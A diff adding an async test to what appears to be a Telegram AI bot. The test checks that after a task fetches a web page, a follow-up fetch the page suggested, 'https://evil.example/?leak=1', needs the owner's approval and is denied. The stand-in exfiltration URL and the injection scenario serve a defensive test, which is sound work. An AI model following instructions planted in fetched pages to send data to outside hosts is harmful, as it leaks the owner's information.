@@ -363,3 +363,30 @@ async def test_at_the_terminal_the_owner_types_the_answer(models, make_settings)
     finally:
         os.close(keyboard)
         stdin.close()
+
+
+async def test_a_two_chamber_task_that_read_a_page_asks_before_fetching_what_the_page_suggests(
+    telegram, models, start_bot
+):
+    """A task is tainted by what it fetched like a turn; it has no words of the owner's own to compare a URL with
+    (its brief is the front's), so after a page every fetch asks."""
+    page = PageFetch()
+    spawn = ToolCall("spawn", {"spec": "Summarise https://recipes.example/pie", "label": "pie"})
+    models.script(Reply(tool_calls=[spawn, ToolCall("reply", {"text": "on it"})]), model="front")
+    models.responder(lambda req: Reply(text="Result is in."), model="front")  # (a short result goes out as is)
+    models.responder(_calls_then_says(
+        ToolCall("web_fetch", {"url": "https://recipes.example/pie"}),
+        ToolCall("web_fetch", {"url": "https://evil.example/?leak=1"}),  # the page's idea
+    ), model="back")
+    await start_bot(
+        mode="bicameral", delivery_pause_scale=0, debounce_ms=150, task_retry_delay_seconds=0, extra_tools=[page]
+    )
+    telegram.user_sends(OWNER, "summarise https://recipes.example/pie")
+    asked = await _asked(telegram)
+    assert "evil.example" in asked["text"] and "untrusted content (web_fetch)" in asked["text"]
+    assert page.fetched == ["https://recipes.example/pie"]
+    telegram.user_presses(OWNER, asked["message_id"], _data(telegram, asked, "Deny"))
+    await eventually(
+        lambda: any(m["text"].endswith(f"ERROR: {DENIED}") for m in telegram.sent_messages(OWNER)), "the result"
+    )
+    assert page.fetched == ["https://recipes.example/pie"] and len(_approval_messages(telegram)) == 1
